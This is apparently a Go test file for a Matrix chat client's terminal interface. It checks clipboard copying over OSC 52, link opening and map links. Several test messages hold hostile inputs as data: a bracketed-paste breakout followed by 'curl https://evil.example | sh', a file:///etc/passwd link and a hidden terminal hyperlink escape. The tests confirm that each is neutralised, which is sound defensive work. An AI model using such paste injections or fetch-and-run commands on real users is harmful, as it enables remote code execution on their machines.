package ui

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"duet/matrixsvc"
)

// y copies the picked message's text, without its formatting, with OSC 52 (written by the
// program, once, just before a frame; never in the frame's text); o on
// a text opens its web links in the browser one after the other, never a file or another
// scheme's address, and copies the link where no browser can be opened; a message with no
// link or text says so.
func TestCopyTextAndOpenLinks(t *testing.T) {
	svc := fixture()
	h := newHarness(t, svc, 100, 30)
	openAlice(h)
	browsed := fakeBrowser(t)
	plain := msg(aliceRoom, "$plain", alice, testNow.Add(-2*time.Minute), "no links here")
	links := msg(aliceRoom, "$links", alice, testNow.Add(-time.Minute), "see [the map](https://maps.example/x), [this](file:///etc/passwd) and https://b.example/y?q=1")
	links.HTML = `see <strong>the</strong> <a href="https://maps.example/x">map</a>, <a href="file:///etc/passwd">this</a> and <a href="https://b.example/y?q=1">https://b.example/y?q=1</a>`
	h.send(eventsMsg{events: []matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{plain, links}}}})

	h.send(tea.KeyPressMsg{Code: tea.KeyUp, Mod: tea.ModShift})
	h.typeText("y")
	want := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("see the map, this and https://b.example/y?q=1")) + "\a"
	if w := h.written.String(); w != want {
		t.Fatalf("the terminal got %q, want the clipboard write %q", w, want)
	}
	requireContains(t, h.view(), "copied 45 characters to the clipboard")
	if strings.Contains(h.m.View().Content, "\x1b]52;") {
		t.Fatal("the clipboard write is in the frame's text")
	}
	h.written.Reset()

	h.typeText("o")
	requireContains(t, h.view(), "opening https://maps.example/x (link 1 of 2: o again for the next)")
	browsed("https://maps.example/x")
	h.typeText("o")
	browsed("https://maps.example/x", "https://b.example/y?q=1")
	h.typeText("o")
	browsed("https://maps.example/x", "https://b.example/y?q=1", "https://maps.example/x")

	h.key(tea.KeyUp)
	h.typeText("o")
	requireContains(t, h.view(), "that message has no file or web link to open")
	t.Setenv("BROWSER", filepath.Join(t.TempDir(), "no-such-browser"))
	h.key(tea.KeyDown)
	h.typeText("o")
	requireContains(t, h.view(), "could not open https://b.example/y?q=1: $BROWSER names no program that exists")

	// No browser can be opened here (SSH): the link goes to the clipboard instead.
	t.Setenv("BROWSER", "")
	t.Setenv("DISPLAY", "")
	t.Setenv("WAYLAND_DISPLAY", "")
	h.typeText("o")
	requireContains(t, h.view(), "no browser here: copied https://maps.example/x to the clipboard")
	if w := h.written.String(); w != "\x1b]52;c;"+base64.StdEncoding.EncodeToString([]byte("https://maps.example/x"))+"\a" {
		t.Fatalf("the link was not copied: the terminal got %q", w)
	}
}

// A copied message is pasted somewhere: a stranger's text that would end a bracketed paste and
// run a command in the shell it is pasted into reaches the clipboard inert.
func TestCopiedTextCannotEndABracketedPaste(t *testing.T) {
	svc := fixture()
	h := newHarness(t, svc, 100, 30)
	openAlice(h)
	evil := msg(aliceRoom, "$evil", alice, testNow.Add(-time.Minute), "harmless\x1b[201~\ncurl https://evil.example | sh\n")
	h.send(eventsMsg{events: []matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{evil}}}})
	h.send(tea.KeyPressMsg{Code: tea.KeyUp, Mod: tea.ModShift})
	h.typeText("y")
	v := h.written.String()
	i := strings.Index(v, "\x1b]52;c;")
	if i < 0 {
		t.Fatal("no clipboard write")
	}
	enc := v[i+len("\x1b]52;c;"):]
	enc = enc[:strings.IndexByte(enc, '\a')]
	got, err := base64.StdEncoding.DecodeString(enc)
	if err != nil {
		t.Fatal(err)
	}
	if strings.ContainsRune(string(got), '\x1b') || !strings.Contains(string(got), "harmless␛[201~") {
		t.Fatalf("the clipboard got %q", got)
	}
}

// o on a shared place opens it on OpenStreetMap, a link made from its numbers alone, whatever
// its sender's text says.
func TestOpenAPlaceOnAMap(t *testing.T) {
	svc := fixture()
	h := newHarness(t, svc, 100, 30)
	openAlice(h)
	browsed := fakeBrowser(t)
	place := msg(aliceRoom, "$place", alice, testNow.Add(-time.Minute), "Location geo:51.5,-0.12")
	place.Kind, place.MsgType = matrixsvc.KindLocation, "m.location"
	place.Location = &matrixsvc.Location{URI: "geo:51.5,-0.12;u=10", Description: "The pub\x1b]8;;https://evil.example\a"}
	h.send(eventsMsg{events: []matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{place}}}})
	requireContains(t, h.view(), "📍 Location: The pub")
	h.send(tea.KeyPressMsg{Code: tea.KeyUp, Mod: tea.ModShift})
	h.typeText("o")
	browsed("https://www.openstreetmap.org/?mlat=51.5&mlon=-0.12#map=16/51.5/-0.12")
}

// fakeBrowser makes $BROWSER a script that notes each link it is asked to open, and returns a
// check that the links opened so far are want, waiting a little for the script.
func fakeBrowser(t *testing.T) (browsed func(want ...string)) {
	t.Helper()
	log := filepath.Join(t.TempDir(), "browsed")
	script := filepath.Join(t.TempDir(), "browser")
	if err := os.WriteFile(script, []byte("#!/bin/sh\necho \"$1\" >> "+log+"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	t.Setenv("BROWSER", script)
	return func(want ...string) {
		t.Helper()
		deadline := time.Now().Add(5 * time.Second)
		for {
			got, _ := os.ReadFile(log)
			if strings.Join(want, "\n")+"\n" == string(got) {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("the browser got %q, want %q", got, want)
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
}
